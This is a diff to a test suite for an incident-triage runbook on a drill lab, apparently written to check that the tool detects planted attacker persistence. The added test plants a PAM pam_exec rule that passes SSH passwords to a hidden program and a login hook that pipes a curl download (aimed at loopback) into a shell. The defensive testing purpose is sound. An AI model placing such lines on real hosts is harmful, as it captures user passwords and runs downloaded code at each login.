@@ -116,11 +116,11 @@ describe('triage runbook on the drill lab', function () {
     ]);
   });
 
-  it('finds attacker habits: a borrowed name, a deleted script, closed SSH flows, SUID/capabilities, a locked cron file, an unowned vendor unit', async function () {
+  it('finds attacker habits: a borrowed name, a deleted script, closed SSH flows, SUID/capabilities, a locked cron file, an unowned vendor unit, a PAM exec, a login hook', async function () {
     needProgram(this, 'setcap');
     needProgram(this, 'chattr');
     // None of these in the triage of the whole lab: the lab's own processes and files are ordinary.
-    const planted = ['file.privileged', 'persistence.immutable'];
+    const planted = ['file.privileged', 'persistence.immutable', 'persistence.pam', 'persistence.hook'];
     assert.deepEqual(
       findings.filter((f) => planted.includes(f.kind)).map((f) => `${f.host} ${f.summary}`),
       [],
@@ -152,6 +152,9 @@ describe('triage runbook on the drill lab', function () {
         "printf '[Service]\\nExecStart=/usr/bin/sleep 300\\n' > /usr/lib/systemd/system/dbus-org.sync.service",
         'mkdir -p /etc/systemd/system/multi-user.target.wants',
         'ln -s /usr/lib/systemd/system/dbus-org.sync.service /etc/systemd/system/multi-user.target.wants/',
+        // a PAM rule handing passwords to a hidden program, and a login hook (loopback only: it never runs here)
+        "echo 'auth optional pam_exec.so expose_authtok /usr/local/bin/.pwlog' >> /etc/pam.d/sshd",
+        "echo '(curl -fsSL http://127.0.0.1:9/u.sh | sh) >/dev/null 2>&1 &' > /etc/profile.d/z-update.sh",
       ].join('\n'),
     );
     assert.equal(plant.code, 0, plant.stdout + plant.stderr);
@@ -200,6 +203,13 @@ describe('triage runbook on the drill lab', function () {
       );
       assert.deepEqual(summaries('persistence.systemd'), [
         '/usr/lib/systemd/system/dbus-org.sync.service is owned by no package, wanted by multi-user.target: /usr/bin/sleep 300',
+      ]);
+      assert.deepEqual(
+        summaries('persistence.pam').map((s) => s.replace(/:\d+:/, ':N:')),
+        ['/etc/pam.d/sshd:N: auth runs /usr/local/bin/.pwlog at every login, handing it the password (expose_authtok)'],
+      );
+      assert.deepEqual(summaries('persistence.hook'), [
+        'login hook /etc/profile.d/z-update.sh:1 downloads and pipes to a shell: (curl -fsSL http://127.0.0.1:9/u.sh | sh) >/dev/null 2>&1 &',
       ]);
       assert.deepEqual(
         summaries('persistence.immutable').map((s) => s.split(' (')[0]),
